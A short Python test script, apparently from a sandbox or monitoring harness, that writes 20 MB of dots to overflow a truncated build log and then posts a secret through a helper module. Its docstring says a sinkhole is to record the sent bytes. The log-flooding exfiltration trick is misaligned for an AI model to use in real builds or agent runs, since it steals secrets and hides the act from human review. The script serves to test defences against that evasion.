#!/usr/bin/python3
"""
Trick: Prints 20 MB of noise, so that the log of the run fills up, and sends a secret after it.
Known from: build logs that are cut at a limit, with the deed behind the cut.
First: connect; the sinkhole's record of the bytes
Second: output is bounded and counted, and takes no room from anything else
"""

import sys

from way_out import post, secret

print("performed", flush=True)
for _ in range(20):
    sys.stdout.write("." * 1_000_000)
post(secret())
